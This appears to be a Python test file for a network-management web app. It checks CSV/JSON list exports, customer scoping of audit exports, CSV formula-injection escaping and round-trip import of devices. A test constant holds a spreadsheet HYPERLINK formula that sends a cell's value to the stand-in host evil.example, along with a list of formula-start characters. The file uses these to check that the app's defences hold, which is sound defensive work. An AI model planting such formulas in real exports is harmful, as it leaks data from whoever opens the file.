"""Every list endpoint exports its whole filtered list as CSV and JSON, scoped like the list."""

import csv
import io
import json

import pytest

from webnet.api.urls import router
from webnet.devices.models import Device
from webnet.tests import factories as f
from webnet.tests.conftest import World, client_for

LISTS = [prefix for prefix, viewset, _ in router.registry if hasattr(viewset, "list")]


@pytest.mark.parametrize("prefix", LISTS)
def test_every_list_exports(world: World, prefix: str) -> None:
    viewset = dict((p, v) for p, v, _ in router.registry)[prefix]
    assert hasattr(viewset, "export"), f"/api/v1/{prefix}/ has no export"
    client = client_for(world.staff)
    for file_format in ("csv", "json"):
        response = client.get(f"/api/v1/{prefix}/export/?file_format={file_format}")
        assert response.status_code == 200, (prefix, file_format)
        body = b"".join(response.streaming_content).decode()
        if file_format == "json":
            assert isinstance(json.loads(body), list)


def test_audit_export_is_scoped(world: World, api) -> None:
    api("operator").post("/api/v1/tags/", {"customer": world.a.pk, "name": "a-tag"}, format="json")
    f.TagFactory(customer=world.b)
    api("outsider").post("/api/v1/tags/", {"customer": world.b.pk, "name": "b-tag"}, format="json")
    response = api("admin").get("/api/v1/audit-events/export/?file_format=json")
    rows = json.loads(b"".join(response.streaming_content))
    assert [row["object_repr"] for row in rows] == ["a-tag"]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("prefix", LISTS)
def test_no_csv_cell_is_a_formula(world: World, prefix: str) -> None:
    """Given user text starting like a formula in many resources, no export cell starts so."""
    credential = f.CredentialFactory(customer=world.a, description=FORMULA)
    tag = f.TagFactory(customer=world.a, name="@SUM(1+1)")
    f.DeviceFactory(customer=world.a, description=FORMULA, site="-48V", credential=credential)
    f.DeviceGroupFactory(customer=world.a, name="+group", description="\tindent")
    f.ConfigTemplateFactory(customer=world.a, name="=template")
    f.CompliancePolicyFactory(customer=world.a, name="-policy")
    client = client_for(world.staff)
    client.patch(f"/api/v1/tags/{tag.pk}/", {"description": FORMULA}, format="json")
    response = client.get(f"/api/v1/{prefix}/export/?file_format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], prefix


def test_device_export_imports_back(world: World, api) -> None:
    """Given devices with formula-like text, their CSV export imports back to the same values."""
    credential = f.CredentialFactory(customer=world.a, name="lab")
    tags = [f.TagFactory(customer=world.a, name="=core"), f.TagFactory(customer=world.a, name="e")]
    f.DeviceFactory(
        customer=world.a,
        hostname="r1",
        description=FORMULA,
        site="-48V",
        role="@edge",
        latitude=-33.86,
        credential=credential,
        tags=tags,
    )
    f.DeviceFactory(customer=world.a, hostname="r2", description="'=already quoted")
    fields = ("hostname", "description", "site", "role", "latitude", "credential_id", "platform")
    before = sorted(Device.objects.values_list(*fields))
    export = api("admin").get("/api/v1/devices/export/?file_format=csv")
    content = b"".join(export.streaming_content)
    assert b"'=HYPERLINK" in content
    Device.objects.all().delete()
    upload = io.BytesIO(content)
    upload.name = "devices.csv"
    response = api("admin").post(
        "/api/v1/devices/import/",
        {"file": upload, "customer": world.a.pk, "dry_run": "false"},
        format="multipart",
    )
    assert response.status_code == 201, response.content
    assert sorted(Device.objects.values_list(*fields)) == before
    assert sorted(Device.objects.get(hostname="r1").tags.values_list("name", flat=True)) == [
        "=core",
        "e",
    ]
